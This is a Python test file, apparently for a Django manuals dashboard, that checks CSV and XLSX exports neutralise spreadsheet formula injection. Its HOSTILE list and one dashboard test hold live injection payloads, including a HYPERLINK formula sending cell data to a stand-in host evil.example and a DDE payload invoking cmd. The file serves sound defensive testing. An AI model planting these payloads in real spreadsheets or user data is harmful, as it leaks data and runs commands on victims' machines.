"""Finding 4: agency/manual names that start with = + - @ (tab, CR) never become formulas in the
dashboard CSV/XLSX (nor in the citations and round exports, which share core.spreadsheet)."""

from __future__ import annotations

import csv
import datetime
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from core.spreadsheet import csv_row, xlsx_append
from manuals.models import Edition
from tests.factories import AgencyFactory, EditionFactory, ManualFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cell_is_text(text):
    assert csv_row([text]) == ["'" + text]


def test_csv_keeps_plain_values():
    day = datetime.date(2024, 8, 25)
    assert csv_row(["กองนโยบาย", 3, None, day, "ก-1"]) == ["กองนโยบาย", 3, "", "2024-08-25", "ก-1"]


def test_xlsx_cells_are_strings_not_formulas():
    book = Workbook()
    sheet = book.active
    xlsx_append(sheet, [*HOSTILE, 7])
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert [c.data_type for c in sheet[1]] == ["s"] * len(HOSTILE) + ["n"]
    assert sheet["A1"].value == HOSTILE[0]
    assert sheet["A1"].quotePrefix


@pytest.mark.django_db
def test_dashboard_export_with_formula_names(client, world):
    agency = AgencyFactory(name='=HYPERLINK("http://evil.example","ดู")', parent=world.root)
    manual = ManualFactory(agency=agency, title="@SUM(A1:A9)")
    EditionFactory(manual=manual, year_be=2567, status=Edition.Status.DRAFT)
    client.force_login(world.users["reviewer"])
    response = client.get("/review/export/?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if "HYPERLINK" in r[0])
    assert row[0] == "'" + agency.name
    assert row[2] == "'@SUM(A1:A9)"
    response = client.get("/review/export/?format=xlsx")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = next(c for c in sheet["A"] if c.value and "HYPERLINK" in str(c.value))
    assert cell.data_type == "s" and cell.quotePrefix
